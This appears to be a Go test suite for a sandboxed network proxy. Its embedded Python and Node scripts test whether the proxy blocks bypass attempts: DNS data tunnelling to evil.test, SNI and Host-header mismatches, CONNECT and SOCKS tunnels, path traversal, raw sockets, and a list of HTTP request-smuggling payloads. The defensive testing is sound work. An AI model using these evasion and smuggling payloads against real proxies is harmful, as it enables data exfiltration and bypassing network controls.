package netlab_test

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
)

func resolver() []try {
	return []try{
		{name: "13 questions", code: `
for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 99, 252, 255):
    attempt(f'kind {kind}', ask, question('secret-data.good.test', kind))
attempt('to 8.8.8.8', ask, question('good.test'), '8.8.8.8')
attempt('to the name server', ask, question('evil.test'), '10.77.0.2')
attempt('EDNS', ask, question('good.test', extra=b'')[:10] + b'\0\1' + question('good.test')[12:] + b'\0\0\x29\x10\0\0\0\0\0\0\0')
for bad in b'', b'\0', b'\xff' * 12, question('x')[:-3], question(b'\xc0\x0c'), question(b'\x3f' + b'a' * 10), b'\0' * 600, os.urandom(300):
    attempt('malformed', ask, bad, '198.18.0.1', 53, 0.3)
for port in 5353, 853, 137, 5355, 443, 123:
    attempt(f'port {port}', ask, question('good.test'), '8.8.8.8', port, 0.5)
s = dial('8.8.8.8', 53, 5)
q = question('good.test')
s.sendall(struct.pack('>H', len(q)) + q)
print('TCP', answers(s.recv(4096)[2:]))
try:
    dial('1.1.1.1', 853, 3); print('DoT connected')
except OSError: print('DoT refused')`,
			says:  []string{"kind 1 => code 0 answers 1", "kind 16 => code 0 answers 0", "kind 28 => code 0 answers 0", "kind 65 => code 0 answers 0", "to 8.8.8.8 => code 0 answers 1", "TCP code 0 answers 1", "DoT refused"},
			never: []string{"DoT connected"}},
		{name: "13 ten thousand names", long: true, code: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.001); s.connect(('198.18.0.1', 53))
for i in range(10000):
    s.send(question(f'{os.urandom(16).hex()}.evil.test'))
    try: s.recv(512)
    except OSError: pass
print('end')`, says: []string{"end"}},
		{name: "14 data as names", code: `
ok = bad = 0
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.2); s.connect(('198.18.0.1', 53))
for i in range(300):
    s.send(question(f'data{i}.wild.test'))
    try:
        if answers(s.recv(512)).endswith('answers 1'): ok += 1
        else: bad += 1
    except OSError: bad += 1
    if bad > 30: break
print('answered', ok)
for i in range(60):
    try: plain(f'more{i}.wild.test')
    except OSError: pass`,
			then: func(e ended) error {
				if n := len(e.asked()); n > 20 {
					return fmt.Errorf("%d names below one reached the name server, the most is 20", n)
				}
				var answered int
				if _, err := fmt.Sscanf(e.out, "answered %d", &answered); err != nil || answered > 20 {
					return fmt.Errorf("%d names below one were answered, the most is 20 (%v)", answered, err)
				}
				return nil
			}},
	}
}

func packets() []try {
	return []try{
		{name: "16 other packets", code: `
def udp(a, p):
    s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)
    try:
        s.connect((a, p)); s.send(b'x' * 1200); s.send(b'y' * 9000); return s.recv(100)
    except OSError as e: return type(e).__name__
for a, p in ('10.77.0.2', 443), ('10.77.0.2', 9), ('8.8.8.8', 443), ('10.77.0.1', 514), ('198.18.0.1', 123), ('255.255.255.255', 67), ('224.0.0.251', 5353), ('fd77::2', 53), ('ff02::fb', 5353):
    print(a, p, udp(a, p))
for family, kind, proto in ((2, 3, 1), (2, 2, 1), (2, 3, 255), (2, 3, 47), (2, 1, 132), (10, 3, 58), (17, 3, 0), (2, 5, 132), (16, 3, 0), (40, 1, 0), (2, 1, 262)):
    try: socket.socket(family, kind, proto); print(family, kind, proto, 'made')
    except OSError as e: print(family, kind, proto, e.errno)
try: subprocess.run(['ping', '-c1', '-W1', '10.77.0.2'], capture_output=True)
except OSError: pass`, never: []string{"b'"}},
		{name: "26 no way to change it", code: `
for f in ('/dev/net/tun', '/proc/sys/net/ipv4/ip_forward', '/proc/sys/net/ipv4/conf/all/forwarding', '/etc/resolv.conf'):
    try: open(f, 'r+'); print('opened', f)
    except OSError as e: print('no', f)
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name, call in ('flags', 0x8914), ('address', 0x8916), ('route', 0x890b), ('noroute', 0x890c), ('mac', 0x8924), ('mtu', 0x8922):
    try: fcntl.ioctl(s, call, b'tun0'.ljust(16, b'\0') + struct.pack('<H', 0x1043) + b'\0' * 238); print('did', name)
    except OSError as e: print('no', name)
for call in (272, 308, 425):
    import ctypes
    print('call', call, ctypes.CDLL(None, use_errno=True).syscall(call, 0x40000000, 0, 0))
print(sorted(os.listdir('/proc/self/fd')))
print(plain('good.test'))`, says: []string{"call 272 -1", "call 308 -1", "call 425 -1", "good.test says hello"}, never: []string{"opened", "did"},
			dialled: []string{"10.77.0.2:80"}, asked: []string{"good.test"}},
	}
}

func greetings() []try {
	return []try{
		{name: "17 server name of another", code: `
attempt('evil on good', lambda: first(dial('good.test', 443), record(hello([b'evil.test']))))
attempt('good on evil', lambda: first(dial('evil.test', 443), record(hello([b'good.test']))))
attempt('bound on good', lambda: first(dial('good.test', 443), record(hello([b'bound.test']))))`,
			says: []string{"evil on good => alert 49", "good on evil => alert 49", "bound on good => alert 49"}, decided: []decision{{"good.test", "sni-mismatch"}}},
		{name: "18 greetings in pieces", code: `
g = hello([b'good.test'])
attempt('bytes', lambda: first(dial('good.test', 443), record(g), 1))
attempt('records of 7', lambda: first(dial('good.test', 443), record(g, 7)))
attempt('both', lambda: first(dial('good.test', 443), record(g, 7), 3))
e = hello([b'evil.test'])
attempt('evil bytes', lambda: first(dial('good.test', 443), record(e), 1))
attempt('evil records', lambda: first(dial('good.test', 443), record(e, 7)))
attempt('large', lambda: first(dial('good.test', 443), record(hello([b'good.test'], b'\x7f\x7f' + struct.pack('>H', 60000) + b'z' * 60000)[:40000])))
attempt('lies', lambda: first(dial('good.test', 443), b'\x16\3\1\x40\0' + g[:100] + os.urandom(16400)))`,
			says: []string{"bytes => hello", "records of 7 => hello", "both => hello"}, never: []string{"evil bytes => hello", "evil records => hello", "large => hello", "lies => hello"}},
		{name: "18 a slow greeting", code: `
s = dial('good.test', 443)
begun = time.time()
attempt('slow', lambda: first(s, record(hello([b'good.test']))[:20], wait=20))
print('took', 8 < time.time() - begun < 14)`, says: []string{"took True"}, never: []string{"=> hello"}, long: true},
		{name: "19 hidden names", allow: []string{"pinned.test"}, code: `
ech = b'\xfe\x0d' + struct.pack('>H', 186) + b'\0\0\1\0\1\x07\0\x20' + os.urandom(32) + struct.pack('>H', 144) + os.urandom(144)
attempt('plain', lambda: first(dial('pinned.test', 443), record(hello([b'pinned.test']))))
attempt('hidden', lambda: first(dial('pinned.test', 443), record(hello([b'pinned.test'], ech))))
attempt('evil', lambda: first(dial('pinned.test', 443), record(hello([b'evil.test']))))
s = context(False).wrap_socket(dial('pinned.test', 443), server_hostname='pinned.test')
print('issuer', b'laboratory' in s.getpeercert(True))`, says: []string{"plain => hello", "issuer True"}, never: []string{"evil => hello", "hidden => hello"},
			dialled: []string{"10.77.0.4:443"}, asked: []string{"pinned.test"}, decided: []decision{{"pinned.test", "ech"}, {"pinned.test", "sni-mismatch"}}},
	}
}

func requestTries() []try {
	return []try{
		{name: "17 requests for another", code: `
attempt('tls', tls, 'good.test', named='evil.test')
attempt('plain', plain, 'good.test', named='evil.test')
two = b'GET /one HTTP/1.1\r\nHost: good.test\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n'
attempt('second plain', lambda: say(dial('good.test', 80), two))
attempt('second tls', lambda: say(secure('good.test'), two))
attempt('twice', lambda: say(dial('good.test', 80), b'GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n'))
attempt('bound', tls, 'good.test', named='bound.test')`,
			says: []string{`"reason":"authority-mismatch"`}, never: []string{"evil.test says", "bound.test says"},
			dialled: []string{"10.77.0.2:443", "10.77.0.2:80"}, asked: []string{"good.test"}, then: requests("GET good.test/one", "GET good.test/one"),
			decided: []decision{{"good.test", "authority-mismatch"}}},
		{name: "17 streams for another", lang: "node", code: `
const http2 = require('http2')
const c = http2.connect('https://good.test')
function go(name, headers) {
  return new Promise(done => {
    const s = c.request(headers); let text = '', status = 0
    s.on('response', h => status = h[':status']); s.on('data', d => text += d)
    s.on('error', e => { console.log(name, 'error', e.code); done() }); s.on('end', () => { console.log(name, status, text.trim()); done() }); s.end()
  })
}
c.on('error', e => console.log('connection', e.code));
(async () => {
  await go('good', {':path': '/'})
  await go('evil', {':path': '/', ':authority': 'evil.test'})
  await go('bound', {':path': '/', ':authority': 'bound.test'})
  await go('host', {':path': '/', host: 'evil.test'})
  await go('odd', {':path': '/', 'x-a': 'b\x7f'}).catch(e => console.log('odd refused'))
  await go('again', {':path': '/again'})
  c.close()
})().catch(e => { console.log(e.code); c.close() })`,
			says: []string{"good 200 good.test says hello", "evil 4", "bound 4"}, never: []string{"evil.test says", "bound.test says"},
			dialled: []string{"10.77.0.2:443"}, asked: []string{"good.test"}, decided: []decision{{"good.test", "authority-mismatch"}}},
		{name: "20 other protocols", code: `
attempt('connect', lambda: say(dial('good.test', 80), b'CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n', 2))
attempt('connect good', lambda: say(dial('good.test', 80), b'CONNECT good.test:443 HTTP/1.1\r\nHost: good.test:443\r\n\r\n', 2))
attempt('connect within', lambda: say(secure('good.test'), b'CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n', 2))
attempt('absolute', lambda: say(dial('good.test', 80), b'GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n'))
attempt('absolute both', lambda: say(dial('good.test', 80), b'GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n'))
attempt('socks5', lambda: say(dial('good.test', 80), b'\5\1\0', 12))
attempt('socks4', lambda: say(dial('good.test', 443), b'\4\1\1\xbb\x0a\x4d\0\2\0', 12))
attempt('ssh', lambda: say(dial('good.test', 443), b'SSH-2.0-x\r\n', 12))
attempt('garbage', lambda: say(dial('good.test', 443), os.urandom(2000), 12))
attempt('h2c', lambda: say(dial('good.test', 80), b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + b'\0\0\0\4\0\0\0\0\0', 12))
attempt('upgrade', lambda: say(dial('good.test', 80), b'GET / HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n', 2))
attempt('trace', lambda: say(secure('good.test'), b'TRACE / HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n'))`,
			says: []string{`connect => HTTP/1.1 4`, `trace => HTTP/1.1 4`}, never: []string{"evil.test says", "101 Switching", "=> HTTP/1.1 200 OK||"},
			decided: []decision{{"good.test", "connect"}, {"good.test", "not-http-or-tls"}},
			dialled: []string{"10.77.0.2:80"}, asked: []string{"good.test"}, then: requests("GET good.test/")},
	}
}

func rulesOfRequests() []try {
	return []try{
		{name: "20 web sockets", code: `
ask4 = 'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nOrigin: http://x\r\n'
def ws(host):
    s = secure(host)
    s.sendall(f'GET /ws HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\n{ask4}\r\n'.encode())
    head = s.recv(4096)
    if b' 101 ' not in head: return short(head)
    s.sendall(b'\x81\x85\0\0\0\0hello')
    return short(head)[:12] + ' ' + repr(s.recv(100))
attempt('allowed', ws, 'echo.test')
attempt('not', ws, 'good.test')`, says: []string{"allowed => HTTP/1.1 101 b'\\x81\\x05hello'", "not => HTTP/1.1 403", `"reason":"websocket"`}, never: []string{"not => HTTP/1.1 101"},
			dialled: []string{"10.77.0.4:443"}, asked: []string{"echo.test"}, decided: []decision{{"good.test", "websocket"}}},
		{name: "37 methods paths and bodies", allow: []string{"big.test"}, code: `
attempt('get', tls, 'big.test', path='/big?bytes=10')
attempt('path', tls, 'big.test', path='/other')
for p in '/big/../other', '/big%2f..%2fother', '/status/%2e%2e/other', '//big', '/big/', '/./big', '/status/..;/other', '/big\\..\\other':
    attempt(p, tls, 'big.test', path=p)
attempt('method', lambda: say(secure('big.test'), b'DELETE /big HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\n\r\n'))
attempt('override', tls, 'big.test', path='/upload', more='X-HTTP-Method-Override: DELETE\r\n')
attempt('body', lambda: say(secure('big.test'), b'POST /upload HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\nContent-Length: 3000000\r\n\r\n' + b'x' * 100))
attempt('small', lambda: say(secure('big.test'), b'POST /upload HTTP/1.1\r\nHost: big.test\r\nConnection: close\r\nContent-Length: 3\r\n\r\nabc'))`,
			says:    []string{"get => HTTP/1.1 200", "path => HTTP/1.1 403", "method => HTTP/1.1 403", "body => HTTP/1.1 4", `small => HTTP/1.1 200`, `"reason":"path"`, `"reason":"method"`, `"reason":"body-cap"`},
			dialled: []string{"10.77.0.4:443"}, asked: []string{"big.test"}, decided: []decision{{"big.test", "path"}, {"big.test", "method"}, {"big.test", "body-cap"}},
			then: func(e ended) error {
				for _, r := range e.seen.Requests {
					if path, _, _ := strings.Cut(r.URI, "?"); path != "/big" && path != "/upload" && !strings.HasPrefix(path, "/status/") || strings.Contains(r.URI, "other") {
						return errors.New("the server saw " + r.String())
					}
				}
				return nil
			}},
	}
}

// smuggling sends what two readers understand differently to a server that keeps every byte.
func smuggling() []try {
	const head = "POST /a HTTP/1.1\\r\\nHost: raw.test\\r\\nConnection: close\\r\\n"
	const evil = "GET /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"
	bodies := [][2]string{
		{"length and chunks", head + "Content-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil},
		{"two lengths", head + "Content-Length: 3\\r\\nContent-Length: 60\\r\\n\\r\\nabc" + evil},
		{"odd coding", head + "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil},
		{"coding with a space", head + "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + evil},
		{"two codings", head + "Transfer-Encoding: chunked\\r\\nTransfer-Encoding: identity\\r\\n\\r\\n0\\r\\n\\r\\n" + evil},
		{"folded", head + "X-A: b\\r\\n Content-Length: 5\\r\\nContent-Length: 3\\r\\n\\r\\nabc" + evil},
		{"bare newline", "POST /a HTTP/1.1\\nHost: raw.test\\nConnection: close\\nContent-Length: 3\\n\\nabc" + evil},
		{"chunk extension", head + "Transfer-Encoding: chunked\\r\\n\\r\\n3;x=\\\"\\r\\n\\\"\\r\\nabc\\r\\n0\\r\\n\\r\\n" + evil},
		{"negative", head + "Content-Length: -1\\r\\n\\r\\n" + evil},
		{"plus", head + "Content-Length: +3\\r\\n\\r\\nabc" + evil},
		{"null in a name", head + "X-\\0A: b\\r\\nContent-Length: 3\\r\\n\\r\\nabc" + evil},
		{"return in a value", head + "X-A: b\\rX-B: c\\r\\nContent-Length: 3\\r\\n\\r\\nabc" + evil},
		{"hop by hop", head + "Connection: X-A, Host\\r\\nX-A: b\\r\\nKeep-Alive: 1\\r\\nProxy-Authorization: c\\r\\nContent-Length: 3\\r\\n\\r\\nabc" + evil},
		{"old", "GET /a HTTP/1.0\\r\\nHost: raw.test\\r\\n\\r\\n" + evil},
		{"older", "GET /a\\r\\n" + evil},
	}
	code := ""
	for _, b := range bodies {
		code += fmt.Sprintf("attempt(%q, lambda: say(dial('raw.test', 80), b'%s', 8)[:200])\n", b[0], b[1])
	}
	return []try{{name: "21 two readers", allow: []string{"raw.test"}, code: code, never: []string{"TIMEOUT"}, dialled: []string{"10.77.0.9:80"},
		asked: []string{"raw.test"}, then: wellFormed},
		{name: "21 two readers of TLS", allow: []string{"raw.test"}, code: strings.ReplaceAll(code, "dial('raw.test', 80)", "secure('raw.test')"), never: []string{"TIMEOUT"},
			dialled: []string{"10.77.0.9:443"}, asked: []string{"raw.test"}, long: true}}
}

// wellFormed demands that what a server was told is requests that everybody reads in the same way.
func wellFormed(e ended) error {
	for _, talk := range e.seen.Talks {
		head, _, ok := bytes.Cut(talk.Bytes, []byte("\r\n\r\n"))
		text := "\r\n" + strings.ToLower(string(head))
		if len(talk.Bytes) == 0 {
			continue
		}
		if !ok || strings.Contains(string(talk.Bytes), "smuggled") || strings.Count(text, "\r\nhost:") != 1 || strings.Contains(text, "\r\n ") ||
			strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\n") || strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\r") ||
			strings.Count(text, "\r\ncontent-length:")+strings.Count(text, "\r\ntransfer-encoding:") > 1 || strings.Contains(text, "\r\nproxy-authorization") {
			return fmt.Errorf("the server was told %q", talk.Bytes)
		}
	}
	return nil
}

func ports() []try {
	return []try{
		{name: "24 ports", code: `
for p in 22, 8443, 8080, 1, 65535, 25:
    try: dial('good.test', p, 5); print('connected', p)
    except OSError: print('refused', p)
attempt('tls on 80', lambda: first(dial('good.test', 80), record(hello([b'good.test']))))
attempt('http on 443', lambda: say(dial('good.test', 443), get('good.test')))`, never: []string{"connected", "=> hello", "HTTP/1.1 200"},
			decided: []decision{{"good.test", "port"}, {"good.test", "not-http-or-tls"}}},
		{name: "24 ports that a rule names", allow: []string{"tcp://raw.test:9000", "tcp://ssh.test:22"}, code: `
s = dial('raw.test', 9000)
s.sendall(b'x' * 100000); s.shutdown(1)
print('echo', len(everything(s)))
print('banner', dial('ssh.test', 22).recv(100))
for host, port in ('raw.test', 22), ('ssh.test', 9000), ('raw.test', 80):
    try: print(host, port, say(dial(host, port, 5), get(host))[:40])
    except OSError: print('refused')`, says: []string{"echo 100000", "banner b'SSH-2.0-laboratory"}, never: []string{" 200"},
			dialled: []string{"10.77.0.9:22", "10.77.0.9:9000"}, asked: []string{"raw.test", "ssh.test"}},
	}
}
